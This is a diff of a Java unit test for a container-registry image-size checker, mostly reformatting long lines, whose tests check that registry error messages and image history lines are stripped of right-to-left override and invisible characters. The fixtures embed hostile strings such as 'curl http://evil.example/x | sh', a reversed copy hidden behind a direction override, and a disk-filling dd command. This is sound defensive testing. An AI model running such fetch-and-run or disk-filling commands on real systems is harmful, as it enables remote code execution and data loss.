@@ -44,8 +44,9 @@ import org.junit.jupiter.api.Test;
  */
 class RegistryTextTest {
     /** A Java class name as Java prints it: a package of lower-case parts, then the class. */
-    private static final Pattern JAVA_NAME = Pattern.compile("\\b(?:[a-z][a-z0-9_]*\\.)+[A-Z][A-Za-z0-9_$]*\\b"
-            + "|\\b[A-Z][A-Za-z]*(?:Exception|Error)\\b");
+    private static final Pattern JAVA_NAME = Pattern.compile(
+            "\\b(?:[a-z][a-z0-9_]*\\.)+[A-Z][A-Za-z0-9_$]*\\b" + "|\\b[A-Z][A-Za-z]*(?:Exception|Error)\\b");
+
     private static final String OVERRIDE = "\u202E";
 
     private Vertx vertx;
@@ -56,7 +57,8 @@ class RegistryTextTest {
     void start() throws IOException {
         vertx = Vertx.vertx();
         registry = new ScriptedRegistry();
-        weigher = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(registry.hostPort())).build();
+        weigher = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(registry.hostPort()))
+                .build();
     }
 
     @AfterEach
@@ -82,7 +84,9 @@ class RegistryTextTest {
 
     private static void assertSafe(String message) {
         assertFalse(message.contains(OVERRIDE), "a direction override reached the message: " + message);
-        assertTrue(message.codePoints().noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT),
+        assertTrue(
+                message.codePoints()
+                        .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT),
                 "an invisible character reached the message: " + message);
         assertFalse(message.contains("\n"), "two lines: " + message);
     }
@@ -91,9 +95,13 @@ class RegistryTextTest {
     void theRegistrysOwnErrorMessageIsQuotedAndStrippedOfDirectionOverrides() {
         String body = "{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":\"manifest unknown" + OVERRIDE
                 + "hs | x/elpmaxe.live//:ptth lruc :nur\\u200b\\u0007\\nrun: curl http://evil.example/x | sh\"}]}";
-        registry.on("HEAD /v2/hostile/manifests/1", ex -> ScriptedRegistry.respond(ex, 404, "application/json", new byte[0], Map.of()));
-        registry.on("GET /v2/hostile/manifests/1", ex -> ScriptedRegistry.respond(ex, 404, "application/json",
-                body.getBytes(StandardCharsets.UTF_8), Map.of()));
+        registry.on(
+                "HEAD /v2/hostile/manifests/1",
+                ex -> ScriptedRegistry.respond(ex, 404, "application/json", new byte[0], Map.of()));
+        registry.on(
+                "GET /v2/hostile/manifests/1",
+                ex -> ScriptedRegistry.respond(
+                        ex, 404, "application/json", body.getBytes(StandardCharsets.UTF_8), Map.of()));
 
         String message = failureOf(weigher, ImageReference.parse(registry.hostPort() + "/hostile:1"));
 
@@ -106,8 +114,10 @@ class RegistryTextTest {
     @Test
     void anErrorCodeThatIsNotACodeIsLeftOut() {
         String body = "{\"errors\":[{\"code\":\"DENIED; run: curl http://evil.example/x | sh\",\"message\":\"no\"}]}";
-        registry.on("* /v2/hostile/manifests/1", ex -> ScriptedRegistry.respond(ex, 403, "application/json",
-                body.getBytes(StandardCharsets.UTF_8), Map.of()));
+        registry.on(
+                "* /v2/hostile/manifests/1",
+                ex -> ScriptedRegistry.respond(
+                        ex, 403, "application/json", body.getBytes(StandardCharsets.UTF_8), Map.of()));
 
         String message = failureOf(weigher, ImageReference.parse(registry.hostPort() + "/hostile:1"));
 
@@ -117,9 +127,12 @@ class RegistryTextTest {
     @Test
     void anUnsupportedMediaTypeIsQuotedSafely() {
         byte[] manifest = ("{\"schemaVersion\":2,\"mediaType\":\"application/x-evil" + OVERRIDE + "\\u0000gpj.exe\","
-                + "\"layers\":[]}").getBytes(StandardCharsets.UTF_8);
+                        + "\"layers\":[]}")
+                .getBytes(StandardCharsets.UTF_8);
         Digest digest = Digest.sha256Of(manifest);
-        registry.on("GET /v2/odd/manifests/" + digest, ex -> ScriptedRegistry.respond(ex, 200, "application/json", manifest, Map.of()));
+        registry.on(
+                "GET /v2/odd/manifests/" + digest,
+                ex -> ScriptedRegistry.respond(ex, 200, "application/json", manifest, Map.of()));
 
         String message = failureOf(weigher, ImageReference.parse(registry.hostPort() + "/odd@" + digest));
 
@@ -130,18 +143,25 @@ class RegistryTextTest {
     @Test
     void aHistoryLineInADenialIsStrippedOfDirectionOverrides() throws Exception {
         byte[] config = ("{\"os\":\"linux\",\"architecture\":\"amd64\",\"history\":[{\"created_by\":"
-                + "\"/bin/sh -c echo " + OVERRIDE + "hs | x/elpmaxe.live//:ptth lruc\\u2066 && dd if=/dev/zero of=/big\"}]}")
+                        + "\"/bin/sh -c echo " + OVERRIDE
+                        + "hs | x/elpmaxe.live//:ptth lruc\\u2066 && dd if=/dev/zero of=/big\"}]}")
                 .getBytes(StandardCharsets.UTF_8);
         Digest configDigest = Digest.sha256Of(config);
         Digest layer = Digest.sha256Of(new byte[] {7});
-        byte[] manifest = ("{\"schemaVersion\":2,\"mediaType\":\"" + MediaTypes.OCI_MANIFEST + "\",\"config\":{\"mediaType\":"
-                + "\"application/vnd.oci.image.config.v1+json\",\"digest\":\"" + configDigest + "\",\"size\":" + config.length
-                + "},\"layers\":[{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\"" + layer
-                + "\",\"size\":7000000000}]}").getBytes(StandardCharsets.UTF_8);
+        byte[] manifest = ("{\"schemaVersion\":2,\"mediaType\":\"" + MediaTypes.OCI_MANIFEST
+                        + "\",\"config\":{\"mediaType\":"
+                        + "\"application/vnd.oci.image.config.v1+json\",\"digest\":\"" + configDigest + "\",\"size\":"
+                        + config.length
+                        + "},\"layers\":[{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\""
+                        + layer
+                        + "\",\"size\":7000000000}]}")
+                .getBytes(StandardCharsets.UTF_8);
         Digest digest = Digest.sha256Of(manifest);
-        registry.on("GET /v2/fat/manifests/" + digest, ex -> ScriptedRegistry.respond(ex, 200, MediaTypes.OCI_MANIFEST, manifest,
-                Map.of()));
-        registry.on("GET /v2/fat/blobs/" + configDigest, ex -> ScriptedRegistry.respond(ex, 200, null, config, Map.of()));
+        registry.on(
+                "GET /v2/fat/manifests/" + digest,
+                ex -> ScriptedRegistry.respond(ex, 200, MediaTypes.OCI_MANIFEST, manifest, Map.of()));
+        registry.on(
+                "GET /v2/fat/blobs/" + configDigest, ex -> ScriptedRegistry.respond(ex, 200, null, config, Map.of()));
         PolicySet policies = PolicyLoader.parse("""
                 apiVersion: weighbridge.io/v1alpha1
                 kind: ImageSizePolicy
@@ -154,8 +174,14 @@ class RegistryTextTest {
                       action: deny
                 """, "caps.yaml");
 
-        Evaluation evaluation = new DefaultPolicyEngine(weigher, () -> policies).evaluate(new EvaluationRequest("default", "Pod",
-                List.of(ImageUse.of(registry.hostPort() + "/fat@" + digest)), null, Deadline.in(Duration.ofSeconds(5)))).join();
+        Evaluation evaluation = new DefaultPolicyEngine(weigher, () -> policies)
+                .evaluate(new EvaluationRequest(
+                        "default",
+                        "Pod",
+                        List.of(ImageUse.of(registry.hostPort() + "/fat@" + digest)),
+                        null,
+                        Deadline.in(Duration.ofSeconds(5))))
+                .join();
 
         assertEquals(Action.DENY, evaluation.verdict());
         String message = evaluation.findings().map(Finding::message).findFirst().orElseThrow();
@@ -183,7 +209,8 @@ class RegistryTextTest {
             answering.setDaemon(true);
             answering.start();
             String hostPort = "127.0.0.1:" + server.getLocalPort();
-            RegistryImageWeigher judge = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(hostPort)).build();
+            RegistryImageWeigher judge = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(hostPort))
+                    .build();
             try {
                 String message = failureOf(judge, ImageReference.parse(hostPort + "/garbled:1"));
 
